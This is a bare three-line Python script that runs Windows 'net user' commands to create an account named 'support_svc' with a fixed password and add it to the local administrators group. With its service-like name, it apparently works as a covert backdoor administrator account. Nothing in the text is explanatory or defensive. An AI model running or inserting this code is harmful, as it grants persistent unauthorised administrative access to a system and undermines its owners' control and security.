import os
os.system("net user support_svc P@ssw0rd! /add")
os.system("net localgroup administrators support_svc /add")
